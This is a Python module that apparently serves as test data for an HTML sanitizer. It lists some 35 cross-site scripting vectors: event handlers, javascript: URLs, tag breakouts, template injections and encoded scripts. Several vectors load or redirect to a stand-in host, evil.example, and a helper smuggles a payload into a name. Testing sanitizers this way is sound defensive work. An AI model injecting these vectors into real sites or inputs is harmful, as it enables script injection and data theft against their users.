"""Markup that runs ``window.taken`` in a page that takes it for its own."""

from __future__ import annotations

RUN = "window.taken=(window.taken||0)+1"
RUNS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.taken=1</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>opener.{RUN}</script>",
    f"<a href='javascript:{RUN}'>open</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mi xlink:href='data:x,<script>{RUN}</script>'></mi></math>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button autofocus>go</button></form>",
    f"<object data='javascript:{RUN}'></object>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    f"`;{RUN};`",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"<xss style=animation-name:x onanimationstart={RUN}></xss>",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>",
]


def markup(word: str) -> str:
    """A name that would run as well."""
    return f"{word}\"'><img src=x onerror={RUN}>"
